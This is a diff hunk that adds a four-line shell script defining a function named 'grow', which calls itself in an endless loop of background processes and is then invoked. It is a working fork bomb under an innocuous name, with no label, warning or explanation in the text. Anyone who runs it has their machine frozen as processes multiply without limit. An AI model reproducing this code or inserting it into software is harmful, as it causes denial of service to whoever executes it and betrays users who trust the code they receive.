@@ -1,0 +1,4 @@
+grow() {
+    while :; do grow & done
+}
+grow
